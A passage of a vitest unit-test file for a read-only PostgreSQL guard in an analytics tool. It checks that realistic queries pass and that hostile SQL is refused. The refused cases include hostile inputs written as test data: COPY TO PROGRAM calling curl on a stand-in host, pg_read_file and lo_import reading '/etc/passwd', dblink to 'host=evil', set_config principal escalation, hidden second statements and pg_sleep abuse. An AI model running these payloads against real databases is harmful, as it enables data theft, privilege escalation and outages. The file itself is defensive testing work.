// Unit tests for the parser-based SQL guard (src/data/sql-guard/): realistic analytics queries must pass,
// everything that writes, changes session state, reads catalogs, calls dangerous functions or abuses resources
// must be refused with the exact code and a message that names the construct.

import { describe, expect, it } from 'vitest';
import { checkReadOnlySql, type GuardResult } from '../../src/data/sql-guard/index.js';
import { ANALYTICS_QUERIES } from '../support/analytics-queries.js';

type RefusalCode = 'SQL_NOT_ALLOWED' | 'SQL_SYNTAX' | 'SQL_TOO_LONG';

interface RefusedCase {
  name: string;
  sql: string;
  /** Expected `construct` of the refusal. */
  construct: string;
  /** Strings the message must contain (it names the construct and says what to do). */
  mentions: string[];
  code?: RefusalCode;
}

/** Edge cases that must pass in addition to ANALYTICS_QUERIES (comments, quoting, shadowing, caps at the limit). */
const EXTRA_ALLOWED: { name: string; sql: string }[] = [
  { name: 'trailing line comment after the semicolon', sql: 'SELECT count(*) FROM orders; -- DROP TABLE orders' },
  { name: 'block comment containing a semicolon', sql: 'SELECT count(*) FROM orders /* ; DELETE FROM orders */' },
  { name: 'nested block comments', sql: 'SELECT 1 /* outer /* inner */ ; DROP TABLE orders */' },
  { name: 'dollar-quoted string containing statements', sql: 'SELECT $$; DROP TABLE orders; $$ AS just_text' },
  { name: 'tagged dollar quote containing $$ and a quote', sql: "SELECT $tag$ it's $$ ; $tag$ AS s" },
  { name: 'CTE named like a catalog table shadows it', sql: 'WITH pg_class AS (SELECT 1 AS x) SELECT x FROM pg_class' },
  { name: 'WITH RECURSIVE sees later siblings', sql: 'WITH RECURSIVE a AS (SELECT x FROM b), b AS (SELECT 1 AS x) SELECT * FROM a' },
  { name: 'TABLE shorthand', sql: 'TABLE orders' },
  { name: 'bare VALUES', sql: 'VALUES (1, 2), (3, 4)' },
  {
    name: 'pg_catalog-qualified operator, function and type',
    sql: "SELECT 1 OPERATOR(pg_catalog.+) 2, pg_catalog.count(*), '42'::pg_catalog.int4 FROM orders",
  },
  { name: 'quoted identifiers of retail tables', sql: 'SELECT o."store_id" FROM "orders" o, retail."stores" s WHERE s.store_id = o.store_id' },
  { name: 'random sample of rows', sql: 'SELECT order_id FROM orders ORDER BY random() LIMIT 5' },
  { name: 'TABLESAMPLE BERNOULLI', sql: 'SELECT count(*) FROM orders TABLESAMPLE BERNOULLI (10) REPEATABLE (7)' },
  { name: 'escape and Unicode string literals', sql: String.raw`SELECT U&'\0041' AS a, E'\\d+' AS regex, 'it''s' AS quoted` },
  {
    name: 'hourly generate_series over a day',
    sql: "SELECT h.hour FROM generate_series(now() - interval '1 day', now(), interval '1 hour') AS h(hour)",
  },
  { name: 'generate_series exactly at the row cap', sql: 'SELECT count(*) FROM generate_series(1, 100000) AS g(n)' },
  {
    name: 'capped string functions within limits',
    sql: "SELECT lpad(store_id::text, 4, '0'), repeat('*', 5), format('%s: %10s', store_name, city) FROM stores",
  },
  {
    name: 'column names that look like function prefixes',
    sql: 'SELECT s.current_month, s.has_orders FROM (SELECT 1 AS current_month, true AS has_orders) s',
  },
  { name: 'regexp_matches', sql: String.raw`SELECT regexp_matches(product_name, '(\w+)', 'g') FROM products` },
  {
    name: 'SQL-syntax functions (EXTRACT, AT TIME ZONE, TRIM, OVERLAY, SIMILAR TO)',
    sql: "SELECT extract(epoch FROM now() AT TIME ZONE 'UTC'), trim(leading 'x' FROM 'xy'), overlay('abc' placing 'z' from 2) WHERE 'a' SIMILAR TO 'a%'",
  },
];

const CATALOG_HINT = 'get_multiple_table_schemas';
const SCOPE_HINT = 'applied automatically';

const REFUSED: RefusedCase[] = [
  // --- multiple statements, including ones hidden behind comments and quoting --------------------------------------
  { name: 'two SELECTs', sql: 'SELECT 1; SELECT 2', construct: 'multiple statements', mentions: ['found 2 statements', 'one query per call'] },
  { name: 'SELECT then DELETE', sql: 'SELECT * FROM orders; DELETE FROM orders', construct: 'multiple statements', mentions: ['found 2 statements'] },
  {
    name: 'statement after a block comment',
    sql: 'SELECT 1; /* harmless */ DROP TABLE retail.orders',
    construct: 'multiple statements',
    mentions: ['found 2 statements'],
  },
  {
    name: 'semicolon after a line comment',
    sql: 'SELECT 1 -- comment\n; DROP TABLE orders',
    construct: 'multiple statements',
    mentions: ['found 2 statements'],
  },
  {
    name: 'comment with a fake semicolon, then a real one',
    sql: 'SELECT /* ; */ 1; UPDATE orders SET store_id = 1',
    construct: 'multiple statements',
    mentions: ['found 2 statements'],
  },
  { name: 'dollar quote closed early', sql: 'SELECT $$ ; $$; DROP TABLE orders', construct: 'multiple statements', mentions: ['found 2 statements'] },
  {
    name: 'tagged dollar quote trick',
    sql: 'SELECT $a$ $$ ; $a$; DROP TABLE orders',
    construct: 'multiple statements',
    mentions: ['found 2 statements'],
  },
  {
    name: 'escape-string quote trick',
    sql: String.raw`SELECT E'\''; DELETE FROM orders`,
    construct: 'multiple statements',
    mentions: ['found 2 statements'],
  },
  { name: 'doubled-quote trick', sql: "SELECT 'it''s'; DELETE FROM orders", construct: 'multiple statements', mentions: ['found 2 statements'] },
  { name: 'transaction wrapped around a SELECT', sql: 'BEGIN; SELECT 1; COMMIT', construct: 'multiple statements', mentions: ['found 3 statements'] },

  // --- transaction control and session state -----------------------------------------------------------------------
  { name: 'BEGIN', sql: 'BEGIN', construct: 'transaction control (BEGIN/COMMIT/ROLLBACK/SAVEPOINT)', mentions: ['transaction control', 'SELECT'] },
  {
    name: 'START TRANSACTION READ WRITE',
    sql: 'START TRANSACTION READ WRITE',
    construct: 'transaction control (BEGIN/COMMIT/ROLLBACK/SAVEPOINT)',
    mentions: ['transaction control'],
  },
  { name: 'COMMIT', sql: 'COMMIT', construct: 'transaction control (BEGIN/COMMIT/ROLLBACK/SAVEPOINT)', mentions: ['transaction control'] },
  { name: 'ROLLBACK', sql: 'ROLLBACK', construct: 'transaction control (BEGIN/COMMIT/ROLLBACK/SAVEPOINT)', mentions: ['transaction control'] },
  { name: 'SAVEPOINT', sql: 'SAVEPOINT s1', construct: 'transaction control (BEGIN/COMMIT/ROLLBACK/SAVEPOINT)', mentions: ['transaction control'] },
  { name: 'SET search_path', sql: 'SET search_path = app, public', construct: 'SET/RESET', mentions: ['SET/RESET', SCOPE_HINT] },
  { name: 'SET LOCAL of a scope setting', sql: "SET LOCAL app.principal = 'someone-else'", construct: 'SET/RESET', mentions: ['SET/RESET'] },
  { name: 'SET ROLE', sql: 'SET ROLE postgres', construct: 'SET/RESET', mentions: ['SET/RESET'] },
  { name: 'RESET ALL', sql: 'RESET ALL', construct: 'SET/RESET', mentions: ['SET/RESET'] },
  { name: 'SHOW', sql: 'SHOW search_path', construct: 'SHOW', mentions: ['SHOW'] },
  { name: 'DISCARD', sql: 'DISCARD ALL', construct: 'DISCARD', mentions: ['DISCARD'] },

  // --- writes and DDL ---------------------------------------------------------------------------------------------
  { name: 'INSERT', sql: "INSERT INTO orders VALUES (999, 1, 1, '2024-01-01')", construct: 'INSERT', mentions: ['INSERT', 'read-only SELECT'] },
  { name: 'UPDATE', sql: 'UPDATE orders SET store_id = 2 WHERE order_id = 1', construct: 'UPDATE', mentions: ['UPDATE'] },
  { name: 'DELETE', sql: 'DELETE FROM order_items', construct: 'DELETE', mentions: ['DELETE'] },
  {
    name: 'MERGE',
    sql: 'MERGE INTO orders o USING stores s ON o.store_id = s.store_id WHEN MATCHED THEN DELETE',
    construct: 'MERGE',
    mentions: ['MERGE'],
  },
  { name: 'TRUNCATE', sql: 'TRUNCATE orders', construct: 'TRUNCATE', mentions: ['TRUNCATE'] },
  { name: 'COPY TO STDOUT', sql: 'COPY orders TO STDOUT', construct: 'COPY', mentions: ['COPY'] },
  { name: 'COPY TO PROGRAM', sql: "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", construct: 'COPY', mentions: ['COPY'] },
  { name: 'CREATE TABLE', sql: 'CREATE TABLE retail.x (a int)', construct: 'CREATE TABLE', mentions: ['CREATE TABLE'] },
  { name: 'CREATE TABLE AS', sql: 'CREATE TABLE leak AS SELECT * FROM customers', construct: 'CREATE TABLE AS', mentions: ['CREATE TABLE AS'] },
  { name: 'CREATE VIEW', sql: 'CREATE VIEW v AS SELECT * FROM orders', construct: 'CREATE VIEW', mentions: ['CREATE VIEW'] },
  {
    name: 'CREATE FUNCTION',
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    construct: 'CREATE FUNCTION',
    mentions: ['CREATE FUNCTION'],
  },
  { name: 'CREATE INDEX', sql: 'CREATE INDEX ON orders (order_date)', construct: 'CREATE INDEX', mentions: ['CREATE INDEX'] },
  { name: 'DROP TABLE', sql: 'DROP TABLE orders', construct: 'DROP', mentions: ['DROP'] },
  { name: 'ALTER TABLE', sql: 'ALTER TABLE orders DISABLE ROW LEVEL SECURITY', construct: 'ALTER TABLE', mentions: ['ALTER TABLE'] },
  { name: 'GRANT', sql: 'GRANT SELECT ON orders TO PUBLIC', construct: 'GRANT/REVOKE', mentions: ['GRANT/REVOKE'] },
  { name: 'REVOKE', sql: 'REVOKE SELECT ON orders FROM PUBLIC', construct: 'GRANT/REVOKE', mentions: ['GRANT/REVOKE'] },
  { name: 'COMMENT ON', sql: "COMMENT ON TABLE orders IS 'x'", construct: 'COMMENT', mentions: ['COMMENT'] },

  // --- other statement types --------------------------------------------------------------------------------------
  { name: 'EXPLAIN', sql: 'EXPLAIN SELECT * FROM orders', construct: 'EXPLAIN', mentions: ['EXPLAIN', 'row-level security'] },
  { name: 'EXPLAIN ANALYZE', sql: 'EXPLAIN ANALYZE SELECT * FROM orders', construct: 'EXPLAIN', mentions: ['EXPLAIN'] },
  { name: 'DO block', sql: 'DO $$ BEGIN PERFORM 1; END $$', construct: 'DO', mentions: ['DO'] },
  { name: 'CALL', sql: 'CALL app.open_scope_proc()', construct: 'CALL', mentions: ['CALL'] },
  { name: 'LISTEN', sql: 'LISTEN channel', construct: 'LISTEN', mentions: ['LISTEN'] },
  { name: 'NOTIFY', sql: "NOTIFY channel, 'x'", construct: 'NOTIFY', mentions: ['NOTIFY'] },
  { name: 'PREPARE', sql: 'PREPARE p AS SELECT 1', construct: 'PREPARE', mentions: ['PREPARE'] },
  { name: 'EXECUTE', sql: 'EXECUTE p', construct: 'EXECUTE', mentions: ['EXECUTE'] },
  { name: 'DECLARE CURSOR', sql: 'DECLARE c CURSOR FOR SELECT * FROM orders', construct: 'DECLARE CURSOR', mentions: ['DECLARE CURSOR'] },
  { name: 'VACUUM', sql: 'VACUUM orders', construct: 'VACUUM/ANALYZE', mentions: ['VACUUM'] },
  { name: 'ANALYZE', sql: 'ANALYZE orders', construct: 'VACUUM/ANALYZE', mentions: ['ANALYZE'] },
  { name: 'LOCK', sql: 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', construct: 'LOCK', mentions: ['LOCK'] },
  { name: 'LOAD', sql: "LOAD 'plpgsql'", construct: 'LOAD', mentions: ['LOAD'] },

  // --- data-modifying CTEs, SELECT INTO, locking -----------------------------------------------------------------------
  {
    name: 'DELETE in a CTE',
    sql: 'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d',
    construct: 'data-modifying CTE (DELETE)',
    mentions: ['WITH', 'DELETE', 'CTE d'],
  },
  {
    name: 'INSERT in a CTE',
    sql: 'WITH i AS (INSERT INTO stores VALUES (9, $$x$$, $$y$$, false) RETURNING store_id) SELECT * FROM i',
    construct: 'data-modifying CTE (INSERT)',
    mentions: ['INSERT'],
  },
  {
    name: 'UPDATE in a later CTE',
    sql: 'WITH a AS (SELECT 1), u AS (UPDATE orders SET store_id = 1 RETURNING order_id) SELECT * FROM a',
    construct: 'data-modifying CTE (UPDATE)',
    mentions: ['UPDATE', 'CTE u'],
  },
  {
    name: 'MERGE in a CTE',
    sql: 'WITH m AS (MERGE INTO orders o USING stores s ON o.store_id = s.store_id WHEN MATCHED THEN DELETE RETURNING o.order_id) SELECT * FROM m',
    construct: 'data-modifying CTE (MERGE)',
    mentions: ['MERGE'],
  },
  {
    name: 'DELETE CTE inside a subquery',
    sql: 'SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING order_id) SELECT * FROM d) s',
    construct: 'data-modifying CTE (DELETE)',
    mentions: ['DELETE'],
  },
  { name: 'SELECT INTO', sql: 'SELECT * INTO leaked FROM customers', construct: 'SELECT INTO', mentions: ['SELECT INTO', 'INTO clause'] },
  { name: 'SELECT INTO TEMP', sql: 'SELECT * INTO TEMP t FROM orders', construct: 'SELECT INTO', mentions: ['SELECT INTO'] },
  { name: 'FOR UPDATE', sql: 'SELECT * FROM orders FOR UPDATE', construct: 'FOR UPDATE', mentions: ['FOR UPDATE', 'read-only'] },
  { name: 'FOR SHARE SKIP LOCKED', sql: 'SELECT * FROM orders FOR SHARE SKIP LOCKED', construct: 'FOR SHARE', mentions: ['FOR SHARE'] },
  { name: 'FOR NO KEY UPDATE', sql: 'SELECT * FROM orders FOR NO KEY UPDATE', construct: 'FOR NO KEY UPDATE', mentions: ['FOR NO KEY UPDATE'] },
  { name: 'FOR KEY SHARE', sql: 'SELECT * FROM orders FOR KEY SHARE', construct: 'FOR KEY SHARE', mentions: ['FOR KEY SHARE'] },
  {
    name: 'FOR UPDATE inside a subquery',
    sql: 'SELECT (SELECT order_id FROM orders LIMIT 1 FOR UPDATE)',
    construct: 'FOR UPDATE',
    mentions: ['FOR UPDATE'],
  },

  // --- set_config / current_setting everywhere and however spelled ----------------------------------------------------
  {
    name: 'set_config in the select list',
    sql: "SELECT set_config('app.principal', 'admin', false)",
    construct: 'function set_config',
    mentions: ['set_config', SCOPE_HINT],
  },
  {
    name: 'set_config in WHERE',
    sql: "SELECT * FROM orders WHERE set_config('app.principal', 'admin', true) IS NOT NULL",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in HAVING',
    sql: "SELECT store_id FROM orders GROUP BY store_id HAVING set_config('a', 'b', true) <> ''",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in ORDER BY',
    sql: "SELECT * FROM orders ORDER BY set_config('a', 'b', true)",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in a CTE',
    sql: "WITH s AS (SELECT set_config('app.principal', 'admin', false) AS x) SELECT * FROM s, orders",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in a LATERAL subquery',
    sql: "SELECT * FROM orders o, LATERAL (SELECT set_config('a', o.store_id::text, true)) s",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config as a FROM function',
    sql: "SELECT * FROM set_config('app.principal', 'admin', false)",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in ROWS FROM',
    sql: "SELECT * FROM ROWS FROM (unnest(ARRAY[1]), set_config('a', 'b', false))",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in a CASE branch',
    sql: "SELECT CASE WHEN false THEN set_config('a', 'b', false) END",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config inside an aggregate FILTER',
    sql: "SELECT count(*) FILTER (WHERE set_config('a', 'b', true) = 'b') FROM orders",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  { name: 'quoted "set_config"', sql: `SELECT "set_config"('a', 'b', false)`, construct: 'function set_config', mentions: ['set_config'] },
  {
    name: 'quoted upper-case "SET_CONFIG"',
    sql: `SELECT "SET_CONFIG"('a', 'b', false)`,
    construct: 'function SET_CONFIG',
    mentions: ['SET_CONFIG', SCOPE_HINT],
  },
  {
    name: 'Unicode-escaped name',
    sql: String.raw`SELECT U&"\0073et_config"('a', 'b', false)`,
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'Unicode-escaped name with UESCAPE',
    sql: `SELECT U&"!0073et_config" UESCAPE '!' ('a', 'b', false)`,
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  { name: 'pg_catalog.set_config', sql: "SELECT pg_catalog.set_config('a', 'b', false)", construct: 'function set_config', mentions: ['set_config'] },
  {
    name: 'upper-case PG_CATALOG.SET_CONFIG',
    sql: "SELECT PG_CATALOG.SET_CONFIG('a', 'b', false)",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'attribute notation (row).set_config',
    sql: 'SELECT (o).set_config FROM orders o',
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in a window ORDER BY',
    sql: "SELECT count(*) OVER (ORDER BY set_config('a', 'b', true)) FROM orders",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in an aggregate ORDER BY',
    sql: "SELECT array_agg(order_id ORDER BY set_config('a', 'b', true)) FROM orders",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'set_config in a VALUES list',
    sql: "SELECT x FROM (VALUES (set_config('a', 'b', false))) v(x)",
    construct: 'function set_config',
    mentions: ['set_config'],
  },
  {
    name: 'current_setting',
    sql: "SELECT current_setting('app.principal')",
    construct: 'function current_setting',
    mentions: ['current_setting', SCOPE_HINT],
  },
  {
    name: 'current_setting used as a filter',
    sql: "SELECT * FROM orders WHERE store_id::text = current_setting('app.store_ids', true)",
    construct: 'function current_setting',
    mentions: ['current_setting'],
  },

  // --- XML, files, server, locks, sequences, notifications ----------------------------------------------------------
  {
    name: 'query_to_xml',
    sql: "SELECT query_to_xml('SELECT * FROM app.principals', true, true, '')",
    construct: 'function query_to_xml',
    mentions: ['query_to_xml', 'XML'],
  },
  {
    name: 'table_to_xml',
    sql: "SELECT table_to_xml('app.principals', true, true, '')",
    construct: 'function table_to_xml',
    mentions: ['table_to_xml'],
  },
  { name: 'cursor_to_xml', sql: "SELECT cursor_to_xml('c', 1, false, false, '')", construct: 'function cursor_to_xml', mentions: ['cursor_to_xml'] },
  { name: 'xpath', sql: "SELECT xpath('/a', '<a/>'::text)", construct: 'function xpath', mentions: ['xpath'] },
  { name: 'XMLELEMENT expression', sql: 'SELECT xmlelement(name a, store_name) FROM stores', construct: 'XmlExpr', mentions: ['XML'] },
  { name: 'XMLTABLE', sql: "SELECT * FROM XMLTABLE('/r' PASSING '<r/>' COLUMNS a int)", construct: 'RangeTableFunc', mentions: ['XMLTABLE'] },
  { name: 'pg_read_file', sql: "SELECT pg_read_file('/etc/passwd')", construct: 'function pg_read_file', mentions: ['pg_read_file', 'file'] },
  {
    name: 'pg_read_binary_file',
    sql: "SELECT pg_read_binary_file('postgresql.conf')",
    construct: 'function pg_read_binary_file',
    mentions: ['pg_read_binary_file'],
  },
  { name: 'pg_ls_dir', sql: "SELECT * FROM pg_ls_dir('.')", construct: 'function pg_ls_dir', mentions: ['pg_ls_dir'] },
  { name: 'pg_stat_file', sql: "SELECT pg_stat_file('postgresql.conf')", construct: 'function pg_stat_file', mentions: ['pg_stat_file'] },
  { name: 'lo_import', sql: "SELECT lo_import('/etc/passwd')", construct: 'function lo_import', mentions: ['lo_import', 'large-object'] },
  { name: 'dblink', sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", construct: 'function dblink', mentions: ['dblink', 'remote'] },
  {
    name: 'dblink_exec',
    sql: "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
    construct: 'function dblink_exec',
    mentions: ['dblink_exec', 'remote'],
  },
  {
    name: 'pg_terminate_backend',
    sql: 'SELECT pg_terminate_backend(1234)',
    construct: 'function pg_terminate_backend',
    mentions: ['pg_terminate_backend', 'administration'],
  },
  { name: 'pg_cancel_backend', sql: 'SELECT pg_cancel_backend(1234)', construct: 'function pg_cancel_backend', mentions: ['pg_cancel_backend'] },
  { name: 'pg_sleep', sql: 'SELECT pg_sleep(10)', construct: 'function pg_sleep', mentions: ['pg_sleep', 'Remove it'] },
  {
    name: 'pg_sleep_for in WHERE',
    sql: "SELECT * FROM orders WHERE pg_sleep_for('1 minute') IS NULL",
    construct: 'function pg_sleep_for',
    mentions: ['pg_sleep_for'],
  },
  {
    name: 'pg_advisory_lock',
    sql: 'SELECT pg_advisory_lock(42)',
    construct: 'function pg_advisory_lock',
    mentions: ['pg_advisory_lock', 'advisory locks'],
  },
  {
    name: 'pg_try_advisory_xact_lock',
    sql: 'SELECT pg_try_advisory_xact_lock(42)',
    construct: 'function pg_try_advisory_xact_lock',
    mentions: ['pg_try_advisory_xact_lock'],
  },
  { name: 'txid_current', sql: 'SELECT txid_current()', construct: 'function txid_current', mentions: ['txid_current'] },
  { name: 'pg_current_xact_id', sql: 'SELECT pg_current_xact_id()', construct: 'function pg_current_xact_id', mentions: ['pg_current_xact_id'] },
  { name: 'nextval', sql: "SELECT nextval('retail.orders_seq')", construct: 'function nextval', mentions: ['nextval', 'sequence'] },
  { name: 'setval', sql: "SELECT setval('s', 1)", construct: 'function setval', mentions: ['setval'] },
  { name: 'currval', sql: "SELECT currval('s')", construct: 'function currval', mentions: ['currval'] },
  { name: 'pg_notify', sql: "SELECT pg_notify('channel', 'payload')", construct: 'function pg_notify', mentions: ['pg_notify'] },
  { name: 'setseed', sql: 'SELECT setseed(0.5)', construct: 'function setseed', mentions: ['setseed'] },
  { name: 'version()', sql: 'SELECT version()', construct: 'function version', mentions: ['version', CATALOG_HINT] },
  { name: 'unknown function', sql: 'SELECT make_me_admin()', construct: 'function make_me_admin', mentions: ['make_me_admin', 'not on the list'] },
  { name: 'attribute notation o.pg_sleep', sql: 'SELECT o.pg_sleep FROM orders o', construct: 'function pg_sleep', mentions: ['pg_sleep'] },

  // --- schemas, catalogs, relations ---------------------------------------------------------------------------------------
  {
    name: 'pg_catalog.pg_class',
    sql: 'SELECT relname FROM pg_catalog.pg_class',
    construct: 'relation pg_catalog.pg_class',
    mentions: ['pg_catalog.pg_class', CATALOG_HINT],
  },
  {
    name: 'unqualified pg_class (resolves to pg_catalog)',
    sql: 'SELECT relname FROM pg_class',
    construct: 'relation pg_class',
    mentions: ['pg_class', CATALOG_HINT],
  },
  { name: 'pg_roles joined to data', sql: 'SELECT * FROM orders, pg_roles', construct: 'relation pg_roles', mentions: ['pg_roles'] },
  {
    name: 'information_schema.tables',
    sql: 'SELECT table_name FROM information_schema.tables',
    construct: 'relation information_schema.tables',
    mentions: ['information_schema.tables', CATALOG_HINT],
  },
  {
    name: 'catalog in a subquery',
    sql: 'SELECT (SELECT count(*) FROM pg_catalog.pg_policy) AS policies',
    construct: 'relation pg_catalog.pg_policy',
    mentions: ['pg_catalog.pg_policy'],
  },
  {
    name: 'catalog in LIMIT',
    sql: 'SELECT * FROM orders LIMIT (SELECT count(*) FROM pg_class)',
    construct: 'relation pg_class',
    mentions: ['pg_class'],
  },
  {
    name: 'catalog in a window frame offset',
    sql: 'SELECT sum(order_id) OVER (ORDER BY order_id ROWS BETWEEN (SELECT count(*) FROM pg_class) PRECEDING AND CURRENT ROW) FROM orders',
    construct: 'relation pg_class',
    mentions: ['pg_class'],
  },
  {
    name: 'catalog in TABLESAMPLE arguments',
    sql: 'SELECT * FROM orders TABLESAMPLE BERNOULLI ((SELECT count(*) FROM pg_class))',
    construct: 'relation pg_class',
    mentions: ['pg_class'],
  },
  {
    name: 'catalog in a CTE inside an IN subquery',
    sql: 'SELECT * FROM orders WHERE order_id IN (WITH x AS (SELECT * FROM pg_class) SELECT 1 FROM x)',
    construct: 'relation pg_class',
    mentions: ['pg_class'],
  },
  {
    name: 'catalog behind a parenthesised set operation',
    sql: 'SELECT (SELECT 1) UNION (SELECT relpages FROM pg_class)',
    construct: 'relation pg_class',
    mentions: ['pg_class'],
  },
  {
    name: 'app table inside a nested join',
    sql: 'SELECT * FROM orders o1 JOIN (orders o2 JOIN app.principals p ON true) ON true',
    construct: 'relation app.principals',
    mentions: ['app.principals'],
  },
  {
    name: 'pg_sleep in LATERAL ROWS FROM',
    sql: 'SELECT * FROM stores s CROSS JOIN LATERAL ROWS FROM (generate_series(1, 2), pg_sleep(1)) AS g',
    construct: 'function pg_sleep',
    mentions: ['pg_sleep'],
  },
  { name: 'app.principals', sql: 'SELECT * FROM app.principals', construct: 'relation app.principals', mentions: ['app.principals', 'internal'] },
  {
    name: 'app.tx_scope in UNION',
    sql: 'SELECT order_id::text FROM orders UNION SELECT principal_id FROM app.tx_scope',
    construct: 'relation app.tx_scope',
    mentions: ['app.tx_scope'],
  },
  {
    name: 'quoted "app"."principal_stores"',
    sql: 'SELECT * FROM "app"."principal_stores"',
    construct: 'relation app.principal_stores',
    mentions: ['app.principal_stores'],
  },
  { name: 'TABLE app.principals', sql: 'TABLE app.principals', construct: 'relation app.principals', mentions: ['app.principals'] },
  {
    name: 'app function app.open_scope',
    sql: "SELECT app.open_scope('someone-else')",
    construct: 'function app.open_scope',
    mentions: ['app.open_scope', SCOPE_HINT],
  },
  {
    name: 'app function app.scope_store_ids in WHERE',
    sql: 'SELECT * FROM orders WHERE store_id = ANY (app.scope_store_ids())',
    construct: 'function app.scope_store_ids',
    mentions: ['app.scope_store_ids'],
  },
  { name: 'public schema relation', sql: 'SELECT * FROM public.secrets', construct: 'relation public.secrets', mentions: ['public.secrets'] },
  { name: 'pg_temp relation', sql: 'SELECT * FROM pg_temp.t', construct: 'relation pg_temp.t', mentions: ['pg_temp.t'] },
  {
    name: 'cross-database name',
    sql: 'SELECT * FROM otherdb.retail.orders',
    construct: 'relation otherdb.retail.orders',
    mentions: ['otherdb.retail.orders'],
  },
  {
    name: 'unknown retail table',
    sql: 'SELECT * FROM retail.salaries',
    construct: 'relation retail.salaries',
    mentions: ['retail.salaries', 'Available tables'],
  },
  { name: 'unknown unqualified table', sql: 'SELECT * FROM secrets', construct: 'relation secrets', mentions: ['secrets', 'Available tables'] },
  { name: 'retail-qualified function', sql: 'SELECT retail.helper()', construct: 'function retail.helper', mentions: ['retail.helper', 'built-in'] },
  {
    name: 'CTE name leaking out of a subquery',
    sql: 'SELECT * FROM (WITH pg_roles AS (SELECT 1) SELECT * FROM pg_roles) s, pg_roles',
    construct: 'relation pg_roles',
    mentions: ['pg_roles'],
  },
  {
    name: 'reference to a later sibling CTE (not recursive)',
    sql: 'WITH a AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) SELECT * FROM a',
    construct: 'relation pg_authid',
    mentions: ['pg_authid'],
  },
  { name: 'system column ctid', sql: 'SELECT ctid FROM orders', construct: 'system column ctid', mentions: ['ctid'] },
  { name: 'system column xmin', sql: 'SELECT o.xmin, o.order_id FROM orders o', construct: 'system column xmin', mentions: ['xmin'] },

  // --- casts ----------------------------------------------------------------------------------------------------
  { name: 'cast to regclass', sql: "SELECT 'orders'::regclass", construct: 'type regclass', mentions: ['regclass', CATALOG_HINT] },
  { name: 'regclass literal syntax', sql: "SELECT regclass 'app.principals'", construct: 'type regclass', mentions: ['regclass'] },
  { name: 'cast to regproc', sql: "SELECT CAST('pg_sleep' AS regproc)", construct: 'type regproc', mentions: ['regproc'] },
  {
    name: 'cast to regprocedure',
    sql: "SELECT 'set_config(text,text,boolean)'::regprocedure",
    construct: 'type regprocedure',
    mentions: ['regprocedure'],
  },
  { name: 'cast to regrole', sql: "SELECT 'postgres'::regrole", construct: 'type regrole', mentions: ['regrole'] },
  { name: 'cast to regnamespace', sql: "SELECT 'app'::regnamespace", construct: 'type regnamespace', mentions: ['regnamespace'] },
  { name: 'cast to pg_catalog.regtype', sql: "SELECT 'int4'::pg_catalog.regtype", construct: 'type regtype', mentions: ['regtype'] },
  { name: 'cast to quoted "regclass"', sql: `SELECT 1::"regclass"`, construct: 'type regclass', mentions: ['regclass'] },
  { name: 'cast to oid', sql: 'SELECT store_id::oid FROM stores', construct: 'type oid', mentions: ['oid'] },
  { name: 'cast to xml', sql: "SELECT '<a/>'::xml", construct: 'type xml', mentions: ['xml'] },
  { name: 'cast to a type in another schema', sql: 'SELECT NULL::app.principals', construct: 'type app.principals', mentions: ['app.principals'] },

  // --- resource abuse --------------------------------------------------------------------------------------------
  {
    name: 'huge integer generate_series',
    sql: 'SELECT count(*) FROM generate_series(1, 1000000000)',
    construct: 'function generate_series',
    mentions: ['generate_series', '1,000,000,000', '100,000'],
  },
  {
    name: 'per-second generate_series over 10 years',
    sql: "SELECT * FROM generate_series(now() - interval '10 years', now(), interval '1 second')",
    construct: 'function generate_series',
    mentions: ['generate_series', '100,000'],
  },
  {
    name: 'hourly generate_series over 30 years',
    sql: "SELECT * FROM generate_series(date '2000-01-01', date '2030-01-01', interval '1 hour')",
    construct: 'function generate_series',
    mentions: ['generate_series'],
  },
  {
    name: 'generate_series with a column bound',
    sql: 'SELECT * FROM orders o, LATERAL generate_series(1, o.order_id * 1000000) g',
    construct: 'function generate_series',
    mentions: ['constant bounds'],
  },
  {
    name: 'generate_series in the select list',
    sql: 'SELECT generate_series(1, 10)',
    construct: 'function generate_series',
    mentions: ['FROM item'],
  },
  { name: 'repeat with a huge count', sql: "SELECT repeat('x', 100000000)", construct: 'function repeat', mentions: ['repeat', '1000'] },
  {
    name: 'repeat with a column count',
    sql: "SELECT repeat('x', order_id) FROM orders",
    construct: 'function repeat',
    mentions: ['repeat', 'constant count'],
  },
  { name: 'lpad with a huge length', sql: "SELECT lpad('x', 500000000, 'y')", construct: 'function lpad', mentions: ['lpad', '1000'] },
  { name: 'rpad with a huge length', sql: 'SELECT rpad(store_name, 100000) FROM stores', construct: 'function rpad', mentions: ['rpad'] },
  { name: 'format with a huge width', sql: "SELECT format('%900000000s', 'x')", construct: 'function format', mentions: ['format', 'width'] },
  { name: 'format with a * width', sql: "SELECT format('%*s', 900000000, 'x')", construct: 'function format', mentions: ['format'] },

  // --- other constructs ----------------------------------------------------------------------------------------------
  { name: 'parameter placeholder', sql: 'SELECT * FROM orders WHERE store_id = $1', construct: 'ParamRef', mentions: ['$1', 'literals'] },
  { name: 'CURRENT_USER', sql: 'SELECT current_user', construct: 'CURRENT_USER', mentions: ['CURRENT_USER'] },
